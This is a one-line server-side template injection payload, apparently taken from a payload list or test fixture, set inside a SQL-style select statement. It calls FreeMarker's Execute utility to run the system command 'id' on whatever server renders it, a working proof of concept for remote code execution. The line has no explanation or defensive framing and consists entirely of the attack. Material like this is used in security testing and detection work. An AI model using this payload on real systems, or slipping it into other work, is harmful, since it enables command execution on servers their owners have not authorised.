select ${"freemarker.template.utility.Execute"?new()("id")} as x
